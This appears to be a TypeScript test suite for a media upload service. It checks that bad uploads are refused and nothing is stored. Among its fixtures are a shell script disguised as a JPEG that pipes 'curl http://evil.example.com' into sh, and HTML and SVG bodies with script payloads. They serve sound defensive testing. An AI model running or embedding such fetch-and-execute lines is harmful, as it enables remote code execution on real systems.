import { image, largePng, video } from './media-fixtures';
import { MediaTestApp } from './media-test-app';

const MB = 1024 * 1024;

describe('uploads refused (media service, real MinIO and ffmpeg)', () => {
  let app: MediaTestApp;

  beforeAll(async () => {
    app = await MediaTestApp.start();
  });

  afterAll(async () => {
    await app?.close();
  });

  /** Every refusal below must leave the bucket and the uploads table empty. */
  afterEach(async () => {
    expect(await app.bucket.keys()).toEqual([]);
    expect(await app.query(`SELECT "key" FROM "uploads"`)).toEqual([]);
  });

  it('needs a logged-in user or administrator', async () => {
    const answer = await app.upload('/api/upload/single', [{ field: 'file', name: 'a.png', body: await image('png', 10, 10) }], null);
    expect(answer.status).toBe(401);
    expect((await app.upload('/api/upload/single', [{ field: 'file', name: 'a.png', body: await image('png', 10, 10) }], 'not-a-token')).status).toBe(401);
  });

  it('asks for a file when none came, or the body is not a form', async () => {
    expect((await app.upload('/api/upload/single', [{ field: 'other', name: 'a.png', body: await image('png', 10, 10) }])).body).toMatchObject({
      code: 400,
      message: '请选择要上传的文件',
    });
    const json = await fetch(`${app.base}/api/upload/image`, {
      method: 'POST',
      headers: { authorization: `Bearer ${await app.token()}`, 'content-type': 'application/json' },
      body: '{}',
    });
    expect(((await json.json()) as { message: string }).message).toBe('请选择要上传的文件');
  });

  it.each([
    ['without a boundary', 'multipart/form-data', 'x'],
    ['cut off before its closing boundary', 'multipart/form-data; boundary=b0undary', '--b0undary\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nabc'],
    ['with nothing but garbage', 'multipart/form-data; boundary=b0undary', 'garbage'],
    ['cut off inside a part the call does not read', 'multipart/form-data; boundary=b0undary', '--b0undary\r\nContent-Disposition: form-data; name="other"; filename="a.png"\r\n\r\nabc'],
  ])('answers 400, not 500, for a multipart body %s', async (_, type, body) => {
    for (const call of ['single', 'image', 'multiple', 'video']) {
      const answer = await fetch(`${app.base}/api/upload/${call}`, { method: 'POST', headers: { authorization: `Bearer ${await app.token()}`, 'content-type': type }, body });
      expect([call, answer.status, ((await answer.json()) as { message: string }).message]).toEqual([call, 400, '上传失败: 上传内容不完整或格式不正确']);
    }
  });

  it.each([
    ['a shell script renamed .jpg and declared image/jpeg', Buffer.from('#!/bin/sh\ncurl http://evil.example.com | sh\n'), 'image/jpeg'],
    ['an HTML page renamed .png', Buffer.from('<html><script>alert(1)</script></html>'), 'image/png'],
    ['an SVG (scripts can hide in it)', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/svg+xml'],
  ])('refuses %s by its content', async (_, body, type) => {
    const answer = await app.upload('/api/upload/single', [{ field: 'file', name: 'photo.jpg', body, type }]);
    expect(answer.status).toBe(400);
    expect(answer.body.message).toBe('不支持的文件类型');
  });

  it('refuses a truncated image with a clear message', async () => {
    const jpeg = await image('jpeg', 400, 300);
    const answer = await app.upload('/api/upload/single', [{ field: 'file', name: 'half.jpg', body: jpeg.subarray(0, Math.floor(jpeg.length / 2)) }]);
    expect(answer.body).toMatchObject({ code: 400, message: '上传失败: 图片文件不完整或已损坏' });
  });

  it('refuses an image over 5 MB with its size, and answers 413 above the 10 MB cap', async () => {
    const six = await largePng(6 * MB);
    expect(six.length).toBeGreaterThan(5 * MB);
    expect(six.length).toBeLessThan(10 * MB);
    const over = await app.upload('/api/upload/single', [{ field: 'file', name: 'big.png', body: six }]);
    expect(over.body).toMatchObject({ code: 400, message: `图片大小为 ${(six.length / MB).toFixed(2).replace(/\.?0+$/, '')}MB，超过 5MB 限制，请选择更小的图片` });

    const huge = Buffer.concat([six, Buffer.alloc(5 * MB)]);
    const capped = await app.upload('/api/upload/single', [{ field: 'file', name: 'huge.png', body: huge }]);
    expect(capped.body).toMatchObject({ code: 413, message: '图片大小不能超过5MB' });
  });

  it('refuses more than nine images in one call, and a call where every image fails', async () => {
    const png = await image('png', 20, 20);
    const ten = Array.from({ length: 10 }, (_, index) => ({ field: 'files', name: `${index}.png`, body: png }));
    expect((await app.upload('/api/upload/multiple', ten)).body).toMatchObject({ code: 400, message: '最多只能上传9张图片' });

    const answer = await app.upload('/api/upload/multiple', [
      { field: 'files', name: 'a.txt', body: Buffer.from('hello') },
      { field: 'files', name: 'b.jpg', body: Buffer.from('#!/bin/sh') },
    ]);
    expect(answer.body).toMatchObject({
      code: 400,
      message: '上传失败，没有成功上传的图片',
      data: { uploaded: [], errors: [{ file: 'a.txt', reason: '不支持的文件类型' }, { file: 'b.jpg', reason: '不支持的文件类型' }] },
    });
  });

  it('refuses a video call without a video, with an image, a Matroska file or a truncated clip', async () => {
    expect((await app.upload('/api/upload/video', [{ field: 'thumbnail', name: 'c.png', body: await image('png', 10, 10) }])).body.message).toBe('没有视频文件');
    expect((await app.upload('/api/upload/video', [{ field: 'file', name: 'c.mp4', body: await image('png', 10, 10) }])).body.message).toBe('请选择视频文件');
    const mkv = Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.from('....matroska....')]);
    expect((await app.upload('/api/upload/video', [{ field: 'file', name: 'c.webm', body: mkv }])).body.message).toBe('请选择视频文件');
    const clip = await video('avi');
    const truncated = await app.upload('/api/upload/video', [{ field: 'file', name: 'half.avi', body: clip.subarray(0, 2000) }]);
    expect(truncated.body).toMatchObject({ code: 400, message: '上传失败: 视频文件不完整或已损坏' });
  });

  it.each([
    ['an MP4 with its index at the end, cut off in its media data', 'mp4', false],
    ['an MP4 with its index at the front, cut off in its media data', 'mp4', true],
    ['a MOV cut off in its media data', 'mov', false],
  ] as const)('refuses %s, read in process, with the same message', async (_, container, fastStart) => {
    const clip = await video(container, 2, '320x240', fastStart);
    const answer = await app.upload('/api/upload/video', [{ field: 'file', name: `half.${container}`, body: clip.subarray(0, Math.floor(clip.length * 0.6)) }]);
    expect(answer.body).toMatchObject({ code: 400, message: '上传失败: 视频文件不完整或已损坏' });
  });

  it('refuses a cover that is not an image or over 5 MB, storing neither it nor the video', async () => {
    const clip = await video('mp4', 1);
    const script = await app.upload('/api/upload/video', [
      { field: 'file', name: 'c.mp4', body: clip },
      { field: 'thumbnail', name: 'cover.jpg', body: Buffer.from('#!/bin/sh') },
    ]);
    expect(script.body).toMatchObject({ code: 400, message: '请选择图片文件' });
    const big = await app.upload('/api/upload/video', [
      { field: 'file', name: 'c.mp4', body: clip },
      { field: 'thumbnail', name: 'cover.png', body: await largePng(6 * MB) },
    ]);
    expect(big.body).toMatchObject({ code: 400, message: '封面图片大小不能超过5MB' });
  });

  it('answers 413 for a video over 100 MB', async () => {
    const clip = await video('mp4', 1);
    const answer = await app.upload('/api/upload/video', [{ field: 'file', name: 'long.mp4', body: Buffer.concat([clip, Buffer.alloc(100 * MB)]) }]);
    expect(answer.body).toMatchObject({ code: 413, message: '文件大小不能超过100MB' });
  });

  it('answers 404 for an unknown job', async () => {
    expect((await app.call('GET', '/api/upload/video/jobs/00000000-0000-4000-8000-000000000000', { token: await app.token() })).status).toBe(404);
  });
});
